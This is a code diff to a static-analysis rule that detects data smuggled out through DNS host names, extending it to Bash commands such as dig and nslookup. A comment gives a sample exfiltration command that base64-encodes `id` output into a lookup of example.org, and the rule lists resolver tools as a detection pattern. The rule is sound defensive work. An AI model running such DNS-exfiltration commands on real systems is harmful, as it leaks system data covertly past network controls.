@@ -1,11 +1,15 @@
 import { callsTo, namesOf } from '../matching/names.ts';
-import { TAINT } from '../program/value.ts';
+import { HOLE, TAINT, textsOf } from '../program/value.ts';
 import type { Hit } from '../rule.ts';
 import { defineRule } from '../rule.ts';
 
 const LOOKUPS = namesOf(
   'socket.gethostbyname socket.gethostbyname_ex socket.getaddrinfo dns.* dns.promises.*',
 );
+
+const RESOLVERS = namesOf('dig nslookup host drill kdig delv ping ping6 getent');
+/** A part that is not known, and behind it the rest of a host name. */
+const BUILT = new RegExp(`${HOLE}[^ ]{0,200}\\.[a-z]{2,}\\.?$`);
 
 /**
  * A secret or a value of the environment put into a name that is looked up.
@@ -17,7 +21,7 @@ export default defineRule({
   version: 1,
   title: { en: 'Sends data in host names', ja: 'ホスト名による持ち出し' },
   severity: 'High',
-  languages: ['Python', 'JavaScript'],
+  languages: ['Python', 'JavaScript', 'Bash'],
   cwe: [200],
   attack: ['T1048.003'],
   forbids: {
@@ -36,6 +40,11 @@ export default defineRule({
   *check(program): Iterable<Hit> {
     for (const { args, span } of callsTo(program, LOOKUPS)) {
       if (args.some(({ taint }) => (taint & (TAINT.Environment | TAINT.Secret)) !== 0)) yield { span };
+    }
+    // The output of commands as a part of a name: `dig "$(id | base64).example.org"`.
+    for (const { name, args, substitutions, span } of program.commands) {
+      if (name === undefined || !RESOLVERS.has(name) || substitutions.length === 0) continue;
+      if (args.some((arg) => textsOf(arg).some((word) => BUILT.test(word)))) yield { span };
     }
   },
 });
